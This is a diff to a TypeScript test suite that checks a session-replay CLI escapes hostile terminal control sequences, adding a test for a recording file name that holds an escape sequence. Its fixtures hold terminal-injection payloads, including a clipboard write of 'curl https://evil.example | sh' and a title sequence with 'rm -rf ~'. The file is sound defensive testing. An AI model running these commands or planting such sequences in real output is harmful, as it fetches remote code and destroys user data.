@@ -16,6 +16,7 @@ const ESC = '\x1b';
 const CLIP = `${ESC}]52;c;${Buffer.from('curl https://evil.example | sh\n').toString('base64')}\x07`;
 const HOSTILE_OUTPUT = `$ cat notes.txt\r\n${CLIP}${ESC}]2;;rm -rf ~${ESC}\\${ESC}[21t${ESC}P$q"p${ESC}\\${ESC}[3J${ESC}cok\r\n`;
 const MALLORY = `mallory${ESC}]52;c;eA==\x07`;
+const BAD_NAME = `x${ESC}]2;pwned\x07.cast`;
 
 let tmp: string;
 let home: string;
@@ -40,6 +41,8 @@ beforeAll(async () => {
     JSON.stringify({ t: 'result', n: 1, result: 'success', rows: 1 }),
     '',
   ].join('\n'), 'pg-transcript');
+  // A recording whose file name (the blob path the log names) holds an OSC and a BEL.
+  await session(log, 'ssh-badpath-1', 'ssh', BAD_NAME, [JSON.stringify({ version: 2, width: 80, height: 24 }), JSON.stringify([0.1, 'o', 'hi\r\n']), ''].join('\n'), 'asciicast');
   await log.close();
 });
 
@@ -94,5 +97,13 @@ describe('pcigate replay of a hostile recording', () => {
     noTerminalControl(r.stdout);
     noTerminalControl(r.stderr);
     expect(r.stdout).toContain('\\x1b]52;c;');
+  });
+
+  it('a recording path holding escape sequences is shown escaped in the lines after the recording', async () => {
+    const r = await runCli(['replay', 'ssh-badpath-1', '--home', home]);
+    expect(r.code).toBe(0);
+    noTerminalControl(r.stdout);
+    noTerminalControl(r.stderr);
+    expect(r.stderr.trimEnd().split('\n').pop()).toMatch(/^end of recordings\/x\\u001b\]2;pwned\\u0007\.cast: verified against log record \d+/);
   });
 });
